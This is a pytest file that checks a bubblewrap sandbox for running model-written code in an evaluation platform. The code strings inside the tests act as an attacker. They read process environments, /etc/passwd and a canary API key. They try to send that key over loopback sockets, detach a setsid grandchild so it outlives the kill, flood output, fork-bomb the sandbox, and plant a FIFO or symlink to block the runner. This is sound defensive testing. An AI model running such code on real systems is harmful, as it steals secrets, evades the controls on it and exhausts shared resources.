"""The T3 sandbox against an attacker: model-written code that tries to read secrets and golds,
reach the network, outlive its kill, flood the runner and exhaust memory or processes. Each attack
runs for real."""

from __future__ import annotations

import os
import resource
import socket
import sys
import threading
import time
from pathlib import Path

import duckdb
import pytest

from mgqa_platform.evaluation import prompts as P
from mgqa_platform.evaluation.agent import Sandbox
from mgqa_platform.evaluation.sandbox import Limits, SandboxUnavailable, check_available

SECRET = "sk-sandbox-canary-9d41e7"
REPO = Path(__file__).resolve().parent.parent  # holds .mgqa/ (the default home) after a build


def kg_copy(tmp_path: Path) -> Path:
    path = tmp_path / "run" / "kg.duckdb"
    path.parent.mkdir(parents=True)
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE entities (entity_id VARCHAR, name VARCHAR)")
    con.execute("INSERT INTO entities VALUES ('osmh3kg:node/1', 'Fleneken')")
    con.close()
    return path


@pytest.mark.requires_tool("bwrap")
def test_no_parent_environment_no_home_no_warehouse(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    (home / "warehouse.duckdb").write_text("questions_en with every gold")
    monkeypatch.setenv("MGQA_LLM_API_KEY", SECRET)
    monkeypatch.setenv("MGQA_HOME", str(home))
    kg = kg_copy(tmp_path)
    code = f"""
import os
print("env", sorted(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        print("environ", pid, open(f"/proc/{{pid}}/environ", "rb").read())
    except OSError as exc:
        print("environ", pid, type(exc).__name__)
try:
    print("ppid", os.getppid(), open(f"/proc/{{os.getppid()}}/environ", "rb").read())
except OSError as exc:
    print("ppid", os.getppid(), type(exc).__name__)
for path in ({str(home / "warehouse.duckdb")!r}, {str(home)!r}, {str(tmp_path)!r}, {str(REPO)!r},
    "/etc/passwd",
             "/proc/{os.getpid()}/environ"):
    try:
        print("open", path, os.listdir(path) if os.path.isdir(path) else open(path).read()[:40])
    except OSError as exc:
        print("open", path, type(exc).__name__)
print("kg", sql("SELECT count(*) AS n FROM entities")[0]["n"])
try:
    open("/box/kg.duckdb", "ab").write(b"x")
except OSError as exc:
    print("kg write", type(exc).__name__)
"""
    with Sandbox(P.T3A, warehouse=kg, timeout_s=20) as box:
        out, calls = box.run(code)
    assert SECRET not in out and "MGQA" not in out and "gold" not in out, out
    assert "env ['HOME', 'LANG', 'LC_ALL'" in out and "kg 1" in out and calls == 1, out
    assert (
        "ppid 1 PermissionError" in out
        or "ppid 1 b'LANG=C.UTF-8\\x00PATH=/usr/bin:/bin\\x00'" in out
    )
    for path in (home / "warehouse.duckdb", home, tmp_path):
        assert f"open {path} FileNotFoundError" in out, out
    venv = Path(
        sys.prefix
    )  # the repository shows at most the mount point of its virtual environment
    shown = f"['{venv.name}']" if venv.parent == REPO else "FileNotFoundError"
    assert f"open {REPO} {shown}" in out, out
    assert "open /etc/passwd FileNotFoundError" in out
    assert "kg write OSError" in out or "kg write PermissionError" in out, out
    assert kg.read_bytes()[-1:] != b"x"


@pytest.mark.requires_tool("bwrap")
def test_no_network_not_even_the_hosts_loopback(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list = []

    def accept() -> None:
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and not accepted:
            try:
                accepted.append(server.accept())
            except TimeoutError:
                pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    code = f"""
import socket
for host in ("127.0.0.1", "10.255.255.1"):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, {port}))
        s.sendall(b"{SECRET}")
        print("connected", host)
    except OSError as exc:
        print("refused", host, type(exc).__name__)
"""
    with Sandbox(P.T3O, triples=[], timeout_s=15) as box:
        out, _ = box.run(code)
    t.join()
    server.close()
    assert accepted == [] and "connected" not in out, out
    assert "refused 127.0.0.1" in out and "refused 10.255.255.1" in out, out


_DETACH = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # detached grandchild: holds stdout open and writes a heartbeat
        while True:
            with open("heartbeat", "a") as f:
                f.write("x")
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.5)
print("parent done", flush=True)
"""


@pytest.mark.requires_tool("bwrap")
@pytest.mark.parametrize("then,wall", [("", 15), ("time.sleep(60)", 3)])
def test_a_setsid_grandchild_dies_with_the_step_and_the_runner_does_not_wait(tmp_path, then, wall):
    with Sandbox(P.T3O, triples=[], timeout_s=wall) as box:
        t0 = time.monotonic()
        out, _ = box.run(_DETACH + then)
        took = time.monotonic() - t0
        beat = box.dir / "heartbeat"
        assert beat.exists() and beat.stat().st_size > 0, out
        size = beat.stat().st_size
        time.sleep(0.5)
        assert beat.stat().st_size == size, out  # the grandchild is gone
    assert "parent done" in out, out
    if then:  # the step itself hung: killed at the wall limit, with everything it started
        assert "time limit of 3 s" in out and took < 3 + 6, (took, out)
    else:  # the step ended: its PID namespace went with it, grandchild included, no wait for it
        assert "time limit" not in out and took < wall, (took, out)


@pytest.mark.requires_tool("bwrap")
def test_output_flood_is_cut_and_the_runner_memory_stays_bounded(tmp_path):
    code = """
import sys
chunk = b"A" * (1 << 20)
for _ in range(1536):  # 1.5 GB
    sys.stdout.buffer.write(chunk)
sys.stdout.buffer.write(b"UNREACHED")
"""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with Sandbox(P.T3O, triples=[], timeout_s=60, max_output_chars=1000) as box:
        t0 = time.monotonic()
        out, _ = box.run(code)
        took = time.monotonic() - t0
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert "output limit of" in out and "UNREACHED" not in out and len(out) < 1200, out[-300:]
    assert grown_kib < 64 * 1024 and took < 30, (grown_kib, took)


@pytest.mark.requires_tool("bwrap")
def test_memory_cpu_process_and_file_limits(tmp_path):
    limits = Limits(wall_s=30, cpu_s=2, processes=256, file_bytes=1 << 20, workdir_bytes=2 << 20)
    with Sandbox(P.T3O, triples=[], limits=limits) as box:
        out, _ = box.run("b = bytearray(20 * (1 << 30))\nprint('allocated', len(b))")
        assert "MemoryError" in out and "allocated" not in out, out
        t0 = time.monotonic()
        out, _ = box.run("while True:\n    pass")
        took = time.monotonic() - t0
        assert took < 30 and "time limit" not in out, (
            took,
            out,
        )  # killed by RLIMIT_CPU, not the wall
        out, _ = box.run(
            "import os, time\nn = 0\ntry:\n    for _ in range(2000):\n"
            "        if os.fork() == 0:\n            time.sleep(5)\n            os._exit(0)\n"
            "        n += 1\nexcept OSError as exc:\n    "
            "print('fork refused after', n, type(exc).__name__)\n"
        )
        assert "fork refused after" in out, out
        assert int(out.split("fork refused after ")[1].split()[0]) < 256, out
        out, _ = box.run("open('big', 'wb').write(b'x' * (4 << 20))")
        assert "File too large" in out or "(process exited" in out, out
        assert (box.dir / "big").stat().st_size <= 1 << 20
        out, _ = box.run("for i in range(3):\n    open(f'f{i}', 'wb').write(b'x' * (1 << 20))")
        assert "working directory emptied" in out and list(box.dir.iterdir()) == [], out


def test_without_bubblewrap_t3_is_refused(tmp_path):
    with pytest.raises(SandboxUnavailable, match="T3 refused"):
        check_available(str(tmp_path / "no-such-bwrap"))
    fake = tmp_path / "bwrap"
    fake.write_text(
        "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n"
    )
    fake.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="cannot build the sandbox"):
        Sandbox(P.T3O, triples=[], bwrap=str(fake))
    assert os.environ.get("PATH")  # the refusal did not touch the caller's environment


def test_a_run_of_an_agent_tier_is_refused_before_any_question_without_bubblewrap(
    tmp_path, monkeypatch
):
    from mgqa_platform.evaluation import runner
    from mgqa_platform.llm import ChatClient
    from tests.fake_openai import FakeOpenAI

    question = {"question_id": "q1", "text": "How far?", "answer_format": "distance", "gold": "{}"}
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on PATH
    check_available.cache_clear()
    try:
        with FakeOpenAI() as srv:
            with pytest.raises(SandboxUnavailable, match="T3 refused: bubblewrap"):
                runner.run(
                    [question],
                    ChatClient(srv.base_url, "m"),
                    P.T3O,
                    tmp_path / "run",
                    system_name="a",
                )
            assert srv.requests == []
        assert not (tmp_path / "run" / runner.PREDICTIONS).exists()
    finally:
        check_available.cache_clear()


@pytest.mark.requires_tool("bwrap")
@pytest.mark.parametrize(
    "trap", ["os.mkfifo('.tool_calls')", "os.symlink('/dev/zero', '.tool_calls')"]
)
def test_the_runner_does_not_block_on_files_the_code_planted(tmp_path, trap):
    with Sandbox(P.T3O, triples=[], timeout_s=10) as box:
        t0 = time.monotonic()
        out, calls = box.run(
            f"import os\ntriples()\nos.remove('.tool_calls')\n{trap}\nprint('set')"
        )
        assert "set" in out and calls == 0 and time.monotonic() - t0 < 10, out
